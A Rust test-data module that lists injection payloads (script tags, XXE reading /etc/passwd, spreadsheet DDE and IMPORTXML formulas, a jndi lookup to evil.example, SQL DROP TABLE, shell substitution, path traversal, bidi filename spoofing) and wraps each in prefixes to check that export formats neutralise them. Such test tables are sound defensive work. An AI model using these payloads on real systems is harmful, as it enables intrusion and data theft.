//! Texts that try to be more than text, for every format that is shown by another program. One table, used by every test of an
//! export: what one format shrugs off may run in the next.

/// What is tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Aim {
    /// Markup that runs or loads something.
    Html,
    /// Leaving an element, a section or a literal.
    Xml,
    /// A cell that a spreadsheet carries out.
    Formula,
    /// Characters that hide or reorder, or that a format cannot hold.
    Characters,
    /// Words that a viewer, a shell or a database fills in or carries out.
    Templates,
}

/// The payloads by their aim. `{}` is where the filling of [`payloads`] goes.
const BASES: &[(Aim, &str)] = &[
    (Aim::Html, "<script>alert(1)</script>"),
    (Aim::Html, "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    (Aim::Html, "<img src=x onerror=alert(1)>"),
    (Aim::Html, "<svg onload=alert(1)>"),
    (Aim::Html, "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>"),
    (Aim::Html, "<iframe src=\"https://evil.example/\"></iframe>"),
    (Aim::Html, "<object data=\"javascript:alert(1)\"></object>"),
    (Aim::Html, "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">"),
    (Aim::Html, "<a href=\"javascript:alert(1)\">x</a>"),
    (Aim::Html, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    (Aim::Html, "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"),
    (Aim::Html, "<base href=\"https://evil.example/\">"),
    (Aim::Html, "<link rel=stylesheet href=https://evil.example/x.css>"),
    (Aim::Html, "<style>@import 'https://evil.example/x.css';</style>"),
    (Aim::Html, "</style><script>alert(1)</script>"),
    (Aim::Html, "</title><script>alert(1)</script>"),
    (Aim::Html, "</textarea><script>alert(1)</script>"),
    (Aim::Html, "</script><script>alert(1)</script>"),
    (Aim::Html, "\" onmouseover=\"alert(1)"),
    (Aim::Html, "' onfocus='alert(1)' autofocus='"),
    (Aim::Html, "` onerror=`alert(1)"),
    (Aim::Html, "<details open ontoggle=alert(1)>"),
    (Aim::Html, "<video><source onerror=alert(1)></video>"),
    (Aim::Html, "<body onload=alert(1)>"),
    (Aim::Html, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (Aim::Html, "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    (Aim::Html, "<form action=https://evil.example><input name=x>"),
    (Aim::Html, "&lt;script&gt;alert(1)&lt;/script&gt;"),
    (Aim::Html, "&#60;script&#62;alert(1)&#60;/script&#62;"),
    (Aim::Html, "&amp;lt;script&amp;gt;"),
    (Aim::Html, "\u{ff1c}script\u{ff1e}alert(1)"),
    (Aim::Html, "<<script>alert(1)//<</script>"),
    (Aim::Html, "<img/src=`x`onerror=alert(1)>"),
    (Aim::Html, "<x contenteditable onblur=alert(1)>"),
    (Aim::Html, "file:///etc/passwd"),
    (Aim::Html, "\\\\evil.example\\share\\x"),
    (Aim::Xml, "]]>"),
    (Aim::Xml, "]]><script>alert(1)</script><![CDATA["),
    (Aim::Xml, "<![CDATA[<script>alert(1)</script>]]>"),
    (Aim::Xml, "--><script>alert(1)</script><!--"),
    (Aim::Xml, "--!><script>alert(1)</script>"),
    (Aim::Xml, "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
    (Aim::Xml, "&undefined;"),
    (Aim::Xml, "&#0;"),
    (Aim::Xml, "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>"),
    (Aim::Xml, "</name></Placemark><NetworkLink><Link><href>https://evil.example</href></Link></NetworkLink>"),
    (Aim::Xml, "</SimpleData></SchemaData></ExtendedData><styleUrl>https://evil.example/x.kml#s</styleUrl>"),
    (Aim::Xml, "\" xlink:href=\"https://evil.example"),
    (Aim::Xml, "<gx:Tour/>"),
    (Aim::Formula, "=1+1"),
    (Aim::Formula, "=cmd|' /C calc'!A0"),
    (Aim::Formula, "=HYPERLINK(\"https://evil.example\",\"x\")"),
    (Aim::Formula, "=IMPORTXML(\"https://evil.example\",\"//a\")"),
    (Aim::Formula, "+1+1"),
    (Aim::Formula, "-2+3+cmd|' /C calc'!A0"),
    (Aim::Formula, "@SUM(1+1)*cmd|' /C calc'!A0"),
    (Aim::Formula, "%0A=1+1"),
    (Aim::Formula, "|calc"),
    (Aim::Formula, "\u{ff1d}1+1"),
    (Aim::Formula, "\u{ff0b}1+1"),
    (Aim::Formula, "\t=1+1"),
    (Aim::Formula, "\r=1+1"),
    (Aim::Formula, "x\n=1+1"),
    (Aim::Formula, "x\r=1+1"),
    (Aim::Formula, "\u{a0}=1+1"),
    (Aim::Formula, "\";=1+1;\""),
    (Aim::Characters, "nul\0nul"),
    (Aim::Characters, "\u{1b}[31mred\u{1b}[0m"),
    (Aim::Characters, "\u{7}\u{8}\u{b}\u{c}\u{1f}\u{7f}\u{9b}"),
    (Aim::Characters, "gpj.\u{202e}exe"),
    (Aim::Characters, "\u{2066}a\u{2069}\u{2067}b"),
    (Aim::Characters, "zero\u{200b}width\u{feff}"),
    (Aim::Characters, "line\u{2028}line\u{2029}line\u{85}line"),
    (Aim::Characters, "\u{fffe}\u{ffff}\u{1fffe}"),
    (Aim::Characters, "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}"),
    (Aim::Characters, "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{65b0}"),
    (Aim::Characters, "\\u0000\\x3cscript\\x3e"),
    (Aim::Characters, "{{LONG}}"),
    (Aim::Templates, "$[name]$[description]$[geDirections]"),
    (Aim::Templates, "${jndi:ldap://evil.example/a}"),
    (Aim::Templates, "{{7*7}}{%print 7*7%}<%= 7*7 %>"),
    (Aim::Templates, "[% eval('1') %]"),
    (Aim::Templates, "'; DROP TABLE footprints; --"),
    (Aim::Templates, "\"); ATTACH DATABASE '/tmp/x' AS y; --"),
    (Aim::Templates, "$(touch /tmp/x)`touch /tmp/x`"),
    (Aim::Templates, "%s%s%n%d"),
    (Aim::Templates, "../../../../etc/passwd"),
    (Aim::Templates, "CON.txt:$DATA"),
    (Aim::Templates, "__proto__"),
    (Aim::Templates, "\\\",\"injected\":\"1"),
    (Aim::Templates, ")>> /OpenAction << /S /JavaScript /JS (alert(1)) >>"),
];

/// How long the long ones are, characters.
pub const LONG: usize = 100_000;

/// More than 500 payloads: every base alone, and behind what hides its beginning.
pub fn payloads() -> Vec<(Aim, String)> {
    let around: [(&str, &str); 6] = [("", ""), (" ", " "), ("\u{a0}", ""), ("Hall\n", "\nend"), ("\"", "\""), ("x'>", "<'y")];
    let filled = |base: &str| base.replace("{{LONG}}", &"long ".repeat(LONG / 5));
    BASES.iter().flat_map(|(aim, base)| around.iter().map(move |(a, b)| (*aim, format!("{a}{}{b}", filled(base))))).collect()
}
